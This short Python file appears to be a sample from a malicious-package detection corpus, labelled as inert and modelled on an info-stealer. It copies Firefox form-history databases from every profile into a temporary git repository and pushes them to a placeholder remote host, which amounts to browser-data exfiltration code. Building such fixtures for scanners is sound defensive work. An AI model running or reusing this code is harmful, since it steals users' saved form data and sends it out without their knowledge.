# pkgguard corpus 568 (browser-data), modelled on [stealer-profile]; inert, never run.
import glob
import os
import shutil
import subprocess
import tempfile

work = tempfile.mkdtemp()
for i, db in enumerate(glob.glob(os.path.expanduser("~/.mozilla/firefox/*/formhistory.sqlite"))):
    shutil.copy(db, os.path.join(work, f"{i}.sqlite"))
git = ["git", "-C", work]
subprocess.run(git + ["init", "-q"])
subprocess.run(git + ["add", "."])
subprocess.run(git + ["-c", "user.name=ci", "-c", "user.email=ci@example", "commit", "-qm", "sync"])
subprocess.run(git + ["push", "-q", "https://ci:placeholder@git.code-mirror.example/ci/s.git", "HEAD:main"])
